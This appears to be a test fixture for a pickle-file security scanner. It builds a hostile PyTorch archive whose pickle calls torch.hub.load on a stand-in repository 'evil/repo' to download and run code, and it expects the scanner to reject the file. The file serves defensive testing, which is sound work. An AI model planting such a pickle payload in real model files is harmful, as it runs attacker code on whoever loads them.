import { call, global, str } from "../pickle/assemble.ts";
import type { HostileCase } from "./hostile-case.ts";
import { openArchiveOf } from "./torch-file.ts";

const hostile: HostileCase = {
  attack: "downloads and runs code (torch.hub.load)",
  refusal: "TENON_PICKLE_HOSTILE",
  run: () => openArchiveOf(call(global("torch.hub", "load"), str("evil/repo"), str("model"))),
};
export default hostile;
